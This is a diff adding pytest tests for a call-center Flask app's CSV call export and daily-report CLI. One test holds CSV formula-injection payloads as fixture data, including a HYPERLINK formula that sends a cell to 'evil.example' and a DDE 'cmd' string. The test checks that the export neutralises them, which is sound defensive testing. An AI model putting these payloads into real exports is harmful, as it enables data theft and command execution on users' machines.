@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import random
 import tracemalloc
 import uuid
@@ -19,7 +20,7 @@ import psycopg2.extras
 import pytest
 
 from telnyx_flask.call_stats import TOTALS_COLUMNS, totals
-from telnyx_flask.reports import EXPORT_COLUMNS, NO_CALLS_ROW
+from telnyx_flask.reports import EXPORT_COLUMNS, EXPORT_PAGE_ROWS, NO_CALLS_ROW
 from telnyx_flask.team_time import day_bounds
 
 NEW_YORK = ZoneInfo("America/New_York")
@@ -461,3 +462,316 @@ def test_the_exports_memory_does_not_grow_with_its_rows(client, supervisor, many
     assert (small_lines, large_lines) == (1001, 5001)
     print(f"peak traced memory: 1000 rows {small} B, 5000 rows {large} B")
     assert large < small * 1.3
+
+
+@pytest.fixture
+def history_calls(database_url, team):
+    """Calls of every kind the history's filters tell apart; return the agents' ids."""
+    agent_ids = list(team)
+    rng = random.Random(23)
+    numbers = ["+13125550147", "+13125550148", "+442071838750"]
+    base = datetime(2026, 11, 20, 15, 0, tzinfo=UTC)
+    rows = []
+    for n in range(120):
+        started = None if n % 17 == 0 else base - timedelta(minutes=rng.randint(0, 5000))
+        outcome = OUTCOMES[n % len(OUTCOMES)]
+        number = rng.choice(numbers)
+        rows.append(
+            (
+                f"v3:history-{n}",
+                "outbound" if n % 7 == 0 else "inbound",
+                number,
+                number,
+                "+14155550123",
+                outcome,
+                started,
+                started + timedelta(seconds=9) if started and outcome == "answered" else None,
+                (started or base) + timedelta(minutes=3),
+                120 if outcome == "answered" else 0,
+                rng.choice(agent_ids) if outcome == "answered" else None,
+                rng.choice(["resolved", "sale", None]),
+                f"note {n}, with a comma" if n % 3 == 0 else None,
+                agent_ids[0] if n % 11 == 0 else None,
+            )
+        )
+    with psycopg2.connect(database_url) as conn, conn.cursor() as cur:
+        psycopg2.extras.execute_values(
+            cur,
+            "INSERT INTO call_logs (call_sid, direction, from_number, phone_number, to_number,"
+            " outcome, started_at, answered_at, ended_at, duration, answered_by, disposition,"
+            " notes, transferred_from) VALUES %s",
+            rows,
+            template="(%s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s::uuid, %s, %s, %s::uuid)",
+        )
+    conn.close()
+    return agent_ids
+
+
+def history_ids(client, who, **params) -> list[str]:
+    """Every id GET /api/calls lists for the filters, following next_cursor page by page."""
+    seen: list[str] = []
+    cursor = None
+    while True:
+        query = {**params, "limit": 7, **({"before": cursor} if cursor else {})}
+        body = client.get("/api/calls", query_string=query, headers=who.headers).get_json()
+        seen += [call["id"] for call in body["calls"]]
+        cursor = body["next_cursor"]
+        if cursor is None:
+            return seen
+
+
+def test_the_export_lists_what_the_history_lists_for_the_same_filters(
+    client, supervisor, history_calls
+):
+    alice = next(iter(history_calls))
+    filters: list[dict[str, str]] = [
+        {},
+        {"outcome": "answered"},
+        {"outcome": "voicemail", "direction": "inbound"},
+        {"direction": "outbound"},
+        {"agent": alice},
+        {"phone": "+442071838750"},
+        {"phone": "13125550147"},
+        {"since": "2026-11-18T00:00:00+00:00", "until": "2026-11-20T00:00:00Z"},
+        {"disposition": "sale", "outcome": "answered"},
+    ]
+    for params in filters:
+        exported = [row["id"] for row in read_csv(export(client, supervisor, **params))]
+        assert exported == history_ids(client, supervisor, **params), params
+        assert exported, params
+
+
+def test_an_exported_row_has_every_column(client, supervisor, history_calls):
+    rows = {row["id"]: row for row in read_csv(export(client, supervisor))}
+    for row in rows.values():
+        call = client.get(f"/api/calls/{row['id']}", headers=supervisor.headers).get_json()["call"]
+        agent = call["agent"] or {}
+        transferred_from = call["transferred_from"] or {}
+        assert row == {
+            "id": call["id"],
+            "call_control_id": call["call_control_id"],
+            "started_at": call["started_at"] or "",
+            "answered_at": row["answered_at"],
+            "ended_at": call["ended_at"],
+            "direction": call["direction"],
+            "from": call["from"],
+            "to": call["to"],
+            "caller_name": "",
+            "outcome": call["outcome"],
+            "duration": str(call["duration"]),
+            "agent": agent.get("name", ""),
+            "agent_id": agent.get("id", ""),
+            "disposition": call["disposition"] or "",
+            "note": call["note"] or "",
+            "transferred_from": transferred_from.get("name", ""),
+            "end_reason": "",
+        }
+        if call["outcome"] == "answered" and call["started_at"]:
+            answered = datetime.fromisoformat(row["answered_at"])
+            assert answered - datetime.fromisoformat(call["started_at"]) == timedelta(seconds=9)
+        else:
+            assert row["answered_at"] == ""
+    assert any(row["transferred_from"] for row in rows.values())
+    assert any("with a comma" in row["note"] for row in rows.values())
+
+
+@pytest.mark.parametrize(
+    ("query", "parameter"),
+    [
+        ("limit=10", "limit"),
+        ("before=abc", "before"),
+        ("outcome=won", "outcome"),
+        ("since=yesterday", "since"),
+        ("agent=bob", "agent"),
+        ("disposition=unknown", "disposition"),
+        ("sort=id", "sort"),
+        ("outcome=answered&outcome=missed", "outcome"),
+    ],
+)
+def test_bad_export_parameters_get_400_naming_them(client, supervisor, query, parameter):
+    response = client.get(f"/api/calls/export.csv?{query}", headers=supervisor.headers)
+    assert response.status_code == 400
+    error = response.get_json()["error"]
+    assert (error["code"], error["parameter"]) == ("invalid_parameter", parameter)
+    if parameter in ("limit", "before"):
+        assert "every matching call" in error["message"]
+
+
+def test_cells_a_spreadsheet_would_run_start_with_a_quote(client, supervisor, db_rows):
+    hostile = {
+        "prospect_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "notes": "+SUM(1,2)",
+        "end_reason": "-2+3+cmd|' /C calc'!A0",
+        "to_number": "@SUM(A1:A9)",
+        "phone_number": "\t=1+1",
+        "from_number": "\r=1+1",
+    }
+    db_rows(
+        f"INSERT INTO call_logs (call_sid, outcome, started_at, {', '.join(hostile)})"
+        f" VALUES ('=v3:formula', 'missed', now(), {', '.join(['%s'] * len(hostile))})"
+        " RETURNING id",
+        tuple(hostile.values()),
+    )
+    db_rows(
+        "INSERT INTO call_logs (call_sid, outcome, started_at, from_number, to_number,"
+        " prospect_name) VALUES ('v3:plain', 'missed', now() - interval '1 minute',"
+        " '+13125550147', '+14155550123', 'Ada = Lovelace') RETURNING id"
+    )
+    hostile_row, plain_row = read_csv(export(client, supervisor))
+    assert hostile_row["call_control_id"] == "'=v3:formula"
+    assert hostile_row["caller_name"] == "'" + hostile["prospect_name"]
+    assert hostile_row["note"] == "'+SUM(1,2)"
+    assert hostile_row["end_reason"] == "'" + hostile["end_reason"]
+    assert hostile_row["to"] == "'@SUM(A1:A9)"
+    assert hostile_row["from"] == "'\r=1+1"
+    # E.164 numbers (a + and digits: nothing to run) and text that only contains = stay as they are.
+    assert (plain_row["from"], plain_row["to"]) == ("+13125550147", "+14155550123")
+    assert plain_row["caller_name"] == "Ada = Lovelace"
+
+
+@pytest.fixture
+def one_connection(settings):
+    """One PostgreSQL connection per worker, and a 1 s wait for it (then 503)."""
+    settings["DB_POOL_SIZE"] = "1"
+    settings["DB_POOL_TIMEOUT"] = "1"
+    return settings
+
+
+def test_the_export_holds_no_connection_while_the_client_reads(
+    one_connection, client, supervisor, many_calls
+):
+    many_calls(EXPORT_PAGE_ROWS * 2 + 10)
+    response = client.get("/api/calls/export.csv", headers=supervisor.headers, buffered=False)
+    chunks = iter(response.response)
+    received = [next(chunks)]
+    while True:
+        # Between chunks the one connection is free: another request gets it at once.
+        other = client.get("/api/calls", query_string={"limit": 1}, headers=supervisor.headers)
+        assert other.status_code == 200, other.get_json()
+        try:
+            received.append(next(chunks))
+        except StopIteration:
+            break
+    response.close()
+    assert len(received) == 3
+    assert b"".join(received).count(b"\r\n") == 1 + EXPORT_PAGE_ROWS * 2 + 10
+
+
+def test_an_export_with_no_calls_is_the_header(client, supervisor):
+    assert read_csv(export(client, supervisor)) == []
+
+
+# --- flask reports daily ------------------------------------------------------------------
+
+
+def daily_cli(runner, *arguments: str):
+    return runner.invoke(args=["reports", "daily", *arguments])
+
+
+def test_the_cli_json_is_the_apis_report(runner, client, supervisor, team, insert_calls):
+    insert_calls(generated_calls(list(team)))
+    days = ["--from", "2026-03-06", "--to", "2026-03-09"]
+    result = daily_cli(runner, *days, "--format", "json")
+    assert result.exit_code == 0, result.output
+    api = report(client, supervisor, **{"from": "2026-03-06", "to": "2026-03-09"}).get_json()
+    assert json.loads(result.output) == {k: v for k, v in api.items() if k != "success"}
+
+
+def test_the_cli_csv_has_a_row_per_day_agent_and_the_total(
+    runner, client, supervisor, team, insert_calls
+):
+    insert_calls(generated_calls(list(team)))
+    result = daily_cli(runner, "--from", "2026-03-07", "--to", "2026-03-08", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.output, newline="")))
+    api = report(client, supervisor, **{"from": "2026-03-07", "to": "2026-03-08"}).get_json()
+    expected = []
+    for day in api["days"]:
+        expected.append({"day": day["day"], "agent_id": "", "agent": "", **day["totals"]})
+        for agent in day["agents"]:
+            expected.append(
+                {
+                    "day": day["day"],
+                    "agent_id": agent["id"],
+                    "agent": agent["name"],
+                    "offered": None,
+                    "missed": None,
+                    "abandoned": None,
+                    "declined": None,
+                    "voicemail": None,
+                    **agent,
+                }
+            )
+    expected.append({"day": "total", "agent_id": "", "agent": "", **api["total"]})
+
+    def text(value: Any) -> str:
+        return "" if value is None else str(value)
+
+    assert rows == [{key: text(row.get(key)) for key in rows[0]} for row in expected]
+    assert len(rows) > 4
+
+
+def test_the_cli_table_shows_each_day_the_total_and_the_agents(runner, team, insert_calls):
+    insert_calls(generated_calls(list(team)))
+    result = daily_cli(runner, "--from", "2026-03-05", "--to", "2026-03-08", "--tz", "UTC")
+    assert result.exit_code == 0, result.output
+    lines = result.output.splitlines()
+    assert lines[0] == ("Calls from 2026-03-05 to 2026-03-08 (UTC); SL: answered within 20 s")
+    assert lines[2].split() == [
+        "day",
+        "offered",
+        "answered",
+        "missed",
+        "abandoned",
+        "declined",
+        "voicemail",
+        "in",
+        "SL",
+        "SL",
+        "ASA",
+        "s",
+        "avg",
+        "talk",
+        "s",
+        "talk",
+        "s",
+    ]
+    assert lines[3].split()[:2] == ["2026-03-05", "0"]
+    assert lines[3].split()[-4:] == ["-", "-", "-", "0"]
+    assert [line.split()[0] for line in lines[3:8]] == [
+        "2026-03-05",
+        "2026-03-06",
+        "2026-03-07",
+        "2026-03-08",
+        "total",
+    ]
+    assert lines[9] == "Answered calls per agent"
+    assert any(line.split()[1] in ("Alice", "Bob", "Carol") for line in lines[11:])
+
+
+def test_the_cli_says_when_nobody_answered(runner):
+    result = daily_cli(runner, "--to", "2026-03-08")
+    assert result.exit_code == 0, result.output
+    assert "Calls from 2026-03-08 to 2026-03-08 (America/New_York)" in result.output
+    assert result.output.endswith("No calls answered by an agent.\n")
+
+
+@pytest.mark.parametrize(
+    ("arguments", "message"),
+    [
+        (["--from", "2026-03-09", "--to", "2026-03-08"], "--to: to (2026-03-08) is before from"),
+        (["--from", "March 8"], "--from: from must be a date as YYYY-MM-DD"),
+        (["--tz", "Mars/Base"], "--tz: tz must be an IANA time zone name"),
+        (["--from", "2020-01-01", "--to", "2026-01-01"], "--to: a report covers at most 366"),
+    ],
+)
+def test_the_cli_refuses_bad_input(runner, arguments, message):
+    result = daily_cli(runner, *arguments)
+    assert result.exit_code == 1
+    assert f"Error: {message}" in result.output
+
+
+def test_the_cli_refuses_an_unknown_format(runner):
+    result = daily_cli(runner, "--format", "xml")
+    assert result.exit_code == 2
+    assert "'xml' is not one of" in result.output
